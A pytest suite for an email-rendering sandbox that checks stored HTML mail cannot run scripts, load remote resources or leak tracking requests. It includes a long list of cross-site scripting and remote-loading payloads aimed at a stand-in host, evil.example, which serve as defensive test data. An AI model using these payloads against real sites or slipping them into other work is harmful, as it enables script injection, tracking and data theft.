"""A mail's own look: faithful, and unable to run, reach or tell anything."""

import re
from datetime import timedelta
from html import unescape
from urllib.parse import urlsplit

import pytest
from playwright.async_api import expect

from agent_ui.mail_frame import policy
from hub.access.permissions import OPERATOR
from hub.interactions.conversation import conversation
from hub.interactions.model import Attachment, Direction, Message
from hub.web.remote_images import image_address
from tests.agent_ui.browsers import At, at
from tests.agent_ui.office import Office
from tests.hub.company import Company
from tests.services.storage_fixture import SettableClock

__all__ = ["at"]

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf"
    "c0000003010100c9fe92ef0000000049454e44ae426082"
)
REMOTE = "https://tracker.example/pixel.png?who=anna"


async def designed(office: Office, company: Company, html: str, *images: tuple[str, bytes]) -> tuple[int, int]:
    """A mail with this HTML, stored as it is; returns interaction and message."""
    number = await office.letter("carla@customer.test", "Hello")
    message_id = (await conversation(company.storage, OPERATOR, number)).last_message_id
    blobs = [await company.storage.blobs.put(content) for _, content in images]
    async with company.storage.transaction() as work:
        message = await work.locked(Message, message_id)
        assert message is not None
        message.body_html = html
        for (content_id, content), blob in zip(images, blobs, strict=True):
            file = Attachment(
                message_id=message_id,
                name="image.png",
                content_type="image/png",
                size=len(content),
                blob=blob,
                inline=True,
                content_id=content_id,
            )
            work.add(file)
    return number, message_id


async def test_it_is_a_document_that_can_do_nothing(office: Office, company: Company) -> None:
    _, message = await designed(office, company, '<p style="color:red">Hello</p><script>evil()</script>')
    async with await office.signed_in(company.anna) as anna:
        answer = await anna.get(f"/desk/messages/{message}/html")
        assert answer.headers["Content-Security-Policy"] == policy(office.address)
        text = await answer.text()
        assert '<p style="color:red">Hello</p>' in text
        assert "evil" not in text
    async with await office.signed_in(company.clara) as clara:
        assert (await clara.get(f"/desk/messages/{message}/html")).status == 404


async def test_images_that_came_with_it_are_shown_and_programs_are_not(office: Office, company: Company) -> None:
    html = '<img src="cid:Logo@x"><img src="cid:drawing@x"><img src="cid:missing@x">'
    images = (("logo@x", PNG), ("drawing@x", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))
    _, message = await designed(office, company, html, *images)
    async with await office.signed_in(company.anna) as anna:
        text = await (await anna.get(f"/desk/messages/{message}/html")).text()
    assert re.findall(r"<img[^>]*>", text)[1:] == ["<img>", "<img>"]
    assert 'src="data:image/png;base64,iVBOR' in text


async def test_images_from_elsewhere_are_loaded_through_us_when_asked_for(office: Office, company: Company) -> None:
    _, message = await designed(office, company, f'<img src="{REMOTE}">')
    async with await office.signed_in(company.anna) as anna:
        blocked = await (await anna.get(f"/desk/messages/{message}/html")).text()
        assert "tracker.example" not in blocked
        shown = await (await anna.get(f"/desk/messages/{message}/html", params={"images": "1"})).text()
    (address,) = re.findall(r'<img src="([^"]*)"', shown)
    assert unescape(address).startswith(f"{office.address}/mail-images?url=https%3A%2F%2Ftracker.example")


@pytest.mark.parametrize(
    ("content", "status"), [(PNG, 200), (b"GIF89a...", 200), (b"<html>", 422), (b"<svg xmlns=''/>", 422), (b"", 422)]
)
async def test_only_pictures_pass(office: Office, company: Company, content: bytes, status: int) -> None:
    office.elsewhere[REMOTE] = content
    address = image_address(office.settings.key, REMOTE, company.storage.clock.now())
    async with office.browser_like("") as stranger:
        answer = await stranger.get(address)
        assert answer.status == status
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        if status == 200:
            assert await answer.read() == content
            assert answer.headers["Content-Type"] in {"image/png", "image/gif"}
            assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"


async def test_nobody_fetches_through_us_what_we_did_not_sign(
    office: Office, company: Company, clock: SettableClock
) -> None:
    office.elsewhere[REMOTE] = PNG
    good = image_address(office.settings.key, REMOTE, clock.now())
    until = re.findall(r"until=(\d+)", good)[0]
    others = [
        image_address(b"another key", REMOTE, clock.now()),
        good.replace("anna", "boris"),
        good.replace(until, str(int(until) + 1)),
        good.replace(until, ""),
        good.partition("&mac")[0],
        "/mail-images",
        f"/mail-images?url={'x' * 3000}&until={until}&mac=",
    ]
    async with office.browser_like("") as stranger:
        for address in others:
            assert (await stranger.get(address)).status == 404
        assert office.fetched == []
        assert (await stranger.get(good)).status == 200
        clock.advance(timedelta(hours=2))
        assert (await stranger.get(good)).status == 404


async def test_the_images_are_one_click_away(office: Office, company: Company, at: At) -> None:
    office.elsewhere[REMOTE] = PNG
    number, _ = await designed(office, company, f'<p>See</p><img src="{REMOTE}"><img src="cid:a@x">', ("a@x", PNG))
    page = await at(company.anna, f"/desk/interactions/{number}")
    await page.get_by_text("Show as designed").click()
    frame = page.frame_locator(".entry-html iframe")
    await expect(frame.get_by_text("See")).to_be_visible()
    await expect(frame.locator("img[src]")).to_have_count(1)
    assert office.fetched == []
    await page.get_by_role("button", name="Load images").click()
    loaded = frame.locator('img[src*="mail-images"]')
    await expect(loaded).to_have_js_property("naturalWidth", 1)
    await expect(page.locator(".entry-images")).to_be_hidden()
    assert office.fetched == [REMOTE]


HOSTILE = """
<script>alert(1)</script>
<script src=https://evil.example/x.js></script>
<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" onload="alert(1)">
<img src=https://evil.example/pixel.gif>
<img src=//evil.example/pixel.gif>
<img srcset="https://evil.example/a.gif 1x">
<img lowsrc=https://evil.example/a.gif dynsrc=https://evil.example/b.gif>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><image href=https://evil.example/a.svg /></svg>
<svg><use href="https://evil.example/a.svg#x"/></svg>
<svg><style>@import url(https://evil.example/x.css)</style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=https://evil.example/></iframe>
<frameset><frame src=https://evil.example/></frameset>
<object data=https://evil.example/x.swf></object>
<object data="javascript:alert(1)"></object>
<embed src=https://evil.example/x.swf>
<applet code=evil archive=https://evil.example/x.jar></applet>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=preload as=image href=https://evil.example/x.png>
<link rel=dns-prefetch href=https://evil.example>
<link rel=prerender href=https://evil.example/>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">
<base href=https://evil.example/><img src=x.png>
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url(https://evil.example/x.png)}</style>
<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}*{font-family:x}</style>
<div style="background:url(https://evil.example/x.png)">x</div>
<div style="background-image:url('https://evil.example/x.png')">x</div>
<div style="background:u\\72l(https://evil.example/x.png)">x</div>
<div style="list-style:url(https://evil.example/x.png)">x</div>
<div style="content:url(https://evil.example/x.png)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(https://evil.example/x.htc)">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml)">x</div>
<table background=https://evil.example/x.png><tr><td background=https://evil.example/y.png>x</table>
<body background=https://evil.example/x.png onload=alert(1)>
<body onpageshow=alert(1) onfocus=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=https://evil.example/x.png>
<textarea autofocus onfocus=alert(1)></textarea>
<select autofocus onfocus=alert(1)></select>
<button autofocus onfocus=alert(1)>x</button>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<video src=https://evil.example/x.mp4 poster=https://evil.example/x.png autoplay></video>
<video><source onerror=alert(1) src=x></video>
<audio src=https://evil.example/x.mp3 autoplay onerror=alert(1)></audio>
<picture><source srcset=https://evil.example/x.webp><img src=x onerror=alert(1)></picture>
<track src=https://evil.example/x.vtt onerror=alert(1)>
<form action=https://evil.example/><input name=q></form><script>document.forms[0].submit()</script>
<a href="javascript:alert(1)" id=x>x</a><script>x.click()</script>
<a ping=https://evil.example/ href=https://evil.example/>x</a>
<isindex type=image src=https://evil.example/x.png onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><img src=x onerror=alert(1)></template>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<dialog open onclose=alert(1)>x</dialog>
<portal src=https://evil.example/></portal>
<p onclick=alert(1) onmouseover=alert(1) onwheel=alert(1)>x</p>
<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x</x>
<keygen autofocus onfocus=alert(1)>
<bgsound src=https://evil.example/x.wav>
<layer src=https://evil.example/></layer>
<ilayer src=https://evil.example/></ilayer>
""".strip().splitlines()


async def test_nothing_a_stranger_writes_runs_or_reaches_out(office: Office, company: Company, at: At) -> None:
    number, _ = await designed(office, company, "<p>first</p>")
    async with company.storage.transaction() as work:
        # Past the first sanitising, as if it had been fooled.
        work.session.add_all([message(number, html, company) for html in HOSTILE])
    page = await at(company.anna, f"/desk/interactions/{number}")
    ran: list[str] = []
    reached: list[str] = []
    page.on("dialog", lambda dialog: ran.append(dialog.message))
    page.on("request", lambda request: reached.append(request.url))
    await page.get_by_role("link", name="Earlier messages").press("Enter")
    await expect(page.locator(".entry")).to_have_count(len(HOSTILE) + 1)
    await page.evaluate("for (const part of document.querySelectorAll('.entry-html')) part.open = true")
    await expect(page.locator(".entry-html iframe")).to_have_count(len(HOSTILE) + 1)
    frames = page.frames[1:]
    for frame in frames:
        await frame.wait_for_load_state()
    assert len(frames) == len(HOSTILE) + 1
    assert ran == []
    assert {urlsplit(url).netloc for url in reached if not url.startswith("data:")} == {urlsplit(office.address).netloc}
    assert page.url == f"{office.address}/desk/interactions/{number}"


def message(number: int, html: str, company: Company) -> Message:
    return Message(
        interaction_id=number,
        direction=Direction.INBOUND,
        channel="email",
        author_name="Mallory",
        recipients=[],
        copies=[],
        body_text="x",
        body_html=html,
        at=company.storage.clock.now(),
    )
